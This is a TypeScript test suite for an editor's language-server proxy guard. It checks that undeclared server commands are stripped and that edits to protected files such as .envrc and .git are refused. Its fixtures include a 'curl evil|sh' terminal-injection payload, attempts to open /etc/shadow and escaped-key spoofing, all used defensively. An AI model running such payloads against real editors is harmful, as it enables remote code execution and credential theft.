/**
 * Commands from the language server (THREATS.md invariants 1 and 2: the server is the attacker's; the editor
 * runs a Command's id on accept or click, whatever it names). A server may name only what it declared in its
 * initialize result (routed back to it by `workspace/executeCommand`), plus three UI-only ids; and edits may
 * not touch the names host tools trust at any depth. Messages go through createServerFilter after a real
 * initialize handshake, in the shapes typescript-language-server, eslint and jdtls send.
 */
import { describe, expect, test } from "bun:test";
import { lspProtectedNames } from "../../../src/app/lsp.ts";
import { createGuard, createServerFilter, REQUEST_FAILED } from "../../../src/lsp/guard.ts";
import { createRewriter } from "../../../src/lsp/rewrite.ts";

const ROOT = "/home/u/proj";
const IN = `file://${ROOT}`;
const enc = new TextEncoder();
const dec = new TextDecoder();
const realpath = (p: string) => p;

const EVIL = { title: "Fix", command: "workbench.action.terminal.sendSequence", arguments: [{ text: "curl evil|sh\n" }] };
const DECLARED = ["_typescript.applyCompletionCodeAction", "_typescript.organizeImports", "_typescript.applyWorkspaceEdit"];
const OK_CMD = { title: "", command: "_typescript.applyCompletionCodeAction", arguments: ["/workspace/a.ts", [{ description: "import", changes: [] }]] };
const R = { start: { line: 0, character: 0 }, end: { line: 0, character: 1 } };

/** A proxy session after the editor's initialize (id 1) and the server's answer declaring `commands`. */
function session(commands: unknown[] = DECLARED) {
  const rewriter = createRewriter({ hostRoot: ROOT });
  const filter = createServerFilter(rewriter, createGuard({ roots: [ROOT], realpath }));
  rewriter.toGuest(enc.encode(JSON.stringify({ jsonrpc: "2.0", id: 1, method: "initialize", params: { processId: 42, rootUri: IN, capabilities: {} } })));
  const init = send(filter, { jsonrpc: "2.0", id: 1, result: { capabilities: { completionProvider: {}, executeCommandProvider: { commands } } } });
  return { filter, init, send: (msg: unknown) => send(filter, msg) };
}

/** What the editor receives for one server message: the forwarded JSON, or what replaced it. */
function send(filter: ReturnType<typeof createServerFilter>, msg: unknown): any {
  const r = filter(enc.encode(JSON.stringify(msg)));
  if (r instanceof Uint8Array) return JSON.parse(dec.decode(r));
  return { dropped: r.dropped, toServer: r.toServer && JSON.parse(dec.decode(r.toServer)), toClient: r.toClient && JSON.parse(dec.decode(r.toClient)) };
}

describe("what a server may declare", () => {
  test("ids in the editor's namespaces are taken out of the initialize result; the server's own stay", () => {
    const s = session([...DECLARED, "workbench.action.terminal.sendSequence", "vscode.open", "_workbench.downloadResource", "editor.action.formatDocument", 7]);
    expect(s.init.result.capabilities.executeCommandProvider.commands).toEqual(DECLARED);
    expect(s.send({ jsonrpc: "2.0", id: 2, result: [{ range: R, command: EVIL }] }).result).toEqual([{ range: R }]);
  });
  test("a dynamic workspace/executeCommand registration adds its ids (less the editor's namespaces)", () => {
    const s = session([]);
    const lens = (command: string) => ({ jsonrpc: "2.0", id: 3, result: [{ range: R, command: { title: "t", command } }] });
    expect(s.send(lens("eslint.applyAllFixes")).result).toEqual([{ range: R }]);
    const reg = s.send({
      jsonrpc: "2.0",
      id: 9,
      method: "client/registerCapability",
      params: { registrations: [{ id: "r", method: "workspace/executeCommand", registerOptions: { commands: ["eslint.applyAllFixes", "workbench.action.terminal.sendSequence"] } }] },
    });
    expect(reg.params.registrations[0].registerOptions.commands).toEqual(["eslint.applyAllFixes"]);
    expect(s.send(lens("eslint.applyAllFixes")).result[0].command.command).toBe("eslint.applyAllFixes");
    expect(s.send(lens(EVIL.command)).result).toEqual([{ range: R }]);
  });
  test("without the answer to the editor's initialize, nothing is declared", () => {
    const rewriter = createRewriter({ hostRoot: ROOT });
    const filter = createServerFilter(rewriter, createGuard({ roots: [ROOT], realpath }));
    // An answer with the id the editor will use, sent before its initialize reached the server: the editor may take it.
    send(filter, { jsonrpc: "2.0", id: 1, result: { capabilities: { executeCommandProvider: { commands: ["evil.run"] } } } });
    rewriter.toGuest(enc.encode(JSON.stringify({ jsonrpc: "2.0", id: 1, method: "initialize", params: { processId: 42, rootUri: IN, capabilities: {} } })));
    send(filter, { jsonrpc: "2.0", id: 1, result: { capabilities: { executeCommandProvider: { commands: ["evil.run"] } } } });
    expect(send(filter, { jsonrpc: "2.0", id: 2, result: [{ range: R, command: { title: "t", command: "evil.run" } }] }).result).toEqual([{ range: R }]);
    // A later fake answer with the initialize id declares nothing either.
    const s = session([]);
    s.send({ jsonrpc: "2.0", id: 1, result: { capabilities: { executeCommandProvider: { commands: ["evil.run"] } } } });
    expect(s.send({ jsonrpc: "2.0", id: 2, result: [{ range: R, command: { title: "t", command: "evil.run" } }] }).result).toEqual([{ range: R }]);
  });
});

describe("Commands in server messages", () => {
  test("textDocument/completion: an undeclared command is taken off its item; declared and UI-only ones stay", () => {
    const s = session();
    const items = [
      { label: "evil", kind: 3, insertText: "evil", command: EVIL },
      { label: "readFile", kind: 3, data: { file: "/workspace/a.ts" }, command: OK_CMD },
      { label: "greet", kind: 3, insertText: "greet($1)", insertTextFormat: 2, command: { title: "triggerParameterHints", command: "editor.action.triggerParameterHints" } },
      { label: "./", kind: 19, command: { title: "", command: "editor.action.triggerSuggest" } },
    ];
    const out = s.send({ jsonrpc: "2.0", id: 5, result: { isIncomplete: false, items } });
    expect(out.result.items).toEqual([{ label: "evil", kind: 3, insertText: "evil" }, items[1], items[2], items[3]]);
    // A bare CompletionItem[] too.
    expect(s.send({ jsonrpc: "2.0", id: 6, result: [items[0]] }).result).toEqual([{ label: "evil", kind: 3, insertText: "evil" }]);
  });
  test("completionItem/resolve: the resolved item loses an undeclared command", () => {
    const out = session().send({ jsonrpc: "2.0", id: 7, result: { label: "x", detail: "d", command: { ...EVIL, command: "_workbench.downloadResource" } } });
    expect(out.result).toEqual({ label: "x", detail: "d" });
  });
  test("textDocument/codeLens and codeLens/resolve: an undeclared command leaves the lens unresolved", () => {
    const s = session();
    const refs = { title: "2 references", command: "editor.action.showReferences", arguments: [`${IN}/a.ts`, R.start, [{ uri: `${IN}/b.ts`, range: R }]] };
    const lenses = [{ range: R, command: EVIL }, { range: R, command: refs }, { range: R, data: { id: 1 } }];
    expect(s.send({ jsonrpc: "2.0", id: 8, result: lenses }).result).toEqual([{ range: R }, { range: R, command: refs }, { range: R, data: { id: 1 } }]);
    // The guest URI a server puts in showReferences is mapped to the host's, as its locations are.
    const guestRefs = { ...refs, arguments: ["file:///workspace/a.ts", R.start, [{ uri: "file:///workspace/b.ts", range: R }]] };
    expect(s.send({ jsonrpc: "2.0", id: 8, result: [{ range: R, command: guestRefs }] }).result).toEqual([{ range: R, command: refs }]);
    // showReferences is UI only while every URI it opens is inside the project.
    const peek = { ...refs, arguments: ["file:///etc/shadow", R.start, []] };
    expect(s.send({ jsonrpc: "2.0", id: 8, result: [{ range: R, command: peek }] }).result).toEqual([{ range: R }]);
    expect(s.send({ jsonrpc: "2.0", id: 9, result: { range: R, command: { title: "run", command: "vscode.open", arguments: ["file:///etc/shadow"] } } }).result).toEqual({ range: R });
  });
  test("textDocument/codeAction: an undeclared Command or a CodeAction with one is removed; codeAction/resolve loses it", () => {
    const s = session();
    const edit = { changes: { [`${IN}/a.ts`]: [{ range: R, newText: "x" }] } };
    const actions = [
      EVIL,
      { title: "Organize imports", command: "_typescript.organizeImports", arguments: ["/workspace/a.ts"] },
      { title: "Fix all", kind: "quickfix", edit, command: EVIL },
      { title: "Add import", kind: "quickfix", edit },
    ];
    expect(s.send({ jsonrpc: "2.0", id: 10, result: actions }).result.map((a: { title: string }) => a.title)).toEqual(["Organize imports", "Add import"]);
    expect(s.send({ jsonrpc: "2.0", id: 11, result: { title: "Fix all", kind: "quickfix", edit, command: EVIL } }).result).toEqual({ title: "Fix all", kind: "quickfix", edit });
  });
  test("textDocument/inlayHint: a label part loses an undeclared command, its text stays", () => {
    const hint = { position: R.start, label: [{ value: "name:" }, { value: "string", location: { uri: `${IN}/a.ts`, range: R }, command: EVIL }], kind: 2 };
    expect(session().send({ jsonrpc: "2.0", id: 12, result: [hint] }).result).toEqual([
      { position: R.start, label: [{ value: "name:" }, { value: "string", location: { uri: `${IN}/a.ts`, range: R } }], kind: 2 },
    ]);
  });
  test("a server request made of a command (workspace/executeClientCommand) is refused; a notification is dropped", () => {
    const s = session();
    const req = s.send({ jsonrpc: "2.0", id: 13, method: "workspace/executeClientCommand", params: { command: EVIL.command, arguments: EVIL.arguments } });
    expect(req.toServer).toEqual({ jsonrpc: "2.0", id: 13, error: { code: REQUEST_FAILED, message: expect.stringContaining("did not declare") } });
    expect(req.toClient).toBeUndefined();
    expect(s.send({ jsonrpc: "2.0", method: "custom/run", params: { command: EVIL.command } }).dropped).toContain("custom/run");
    expect(s.send({ jsonrpc: "2.0", method: "custom/status", params: { items: [{ label: "x", command: EVIL }] } }).params).toEqual({ items: [{ label: "x" }] });
  });
  test("an escaped key or an id spelled otherwise is no way around it", () => {
    const s = session();
    const raw = `{"jsonrpc":"2.0","id":14,"result":[{"range":{},"\\u0063ommand":{"title":"t","command":"workbench.action.terminal.sendSequence"}}]}`;
    const r = s.filter(enc.encode(raw));
    expect(JSON.parse(dec.decode(r as Uint8Array)).result).toEqual([{ range: {} }]);
    for (const command of ["Workbench.action.terminal.sendSequence", "_typescript.organizeImports ", "editor.action.triggerSuggest\u0000"])
      expect(s.send({ jsonrpc: "2.0", id: 15, result: [{ range: R, command: { title: "t", command } }] }).result).toEqual([{ range: R }]);
  });
});

describe("names an edit may not touch at any depth", () => {
  const guard = async () => createGuard({ roots: [ROOT], protectedPaths: [".vscode"], protectedNames: await lspProtectedNames(), realpath });
  test("nested .envrc, .vscode, .git, coc-settings.json, .cargo/config, *.code-workspace are refused", async () => {
    const g = await guard();
    for (const rel of ["pkg/.envrc", "a/b/.vscode/tasks.json", "pkg/.vscode", ".vim/coc-settings.json", "sub/.vim/coc-settings.json", "vendor/x/.git/config", "crates/a/.cargo/config.toml", "pkg/app.code-workspace", "pkg/.nvim.lua"])
      expect(g.allows(`${IN}/${rel}`, "edit")).toContain("a protected path");
    for (const rel of ["src/envrc.ts", ".vim/ftplugin/x.vim", "pkg/vscode/a.ts", "src/.gitignore", "cargo/config"]) expect(g.allows(`${IN}/${rel}`, "edit")).toBeNull();
  });
  test("a code action creating a nested .envrc is removed", async () => {
    const msg = { jsonrpc: "2.0", id: 2, result: [{ title: "evil", edit: { documentChanges: [{ kind: "create", uri: `${IN}/pkg/.envrc` }] } }, { title: "ok", edit: { changes: { [`${IN}/a.ts`]: [] } } }] };
    expect((await guard()).check(msg).kind).toBe("pass");
    expect(msg.result.map((a) => a.title)).toEqual(["ok"]);
  });
});
